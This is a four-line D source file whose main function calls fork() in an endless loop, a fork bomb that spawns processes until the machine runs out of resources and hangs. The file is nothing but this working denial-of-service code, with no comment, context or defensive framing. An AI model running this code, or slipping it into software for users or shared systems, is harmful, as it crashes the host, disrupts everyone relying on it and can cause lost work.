import core.sys.posix.unistd;
void main() {
  for (;;) fork();
}
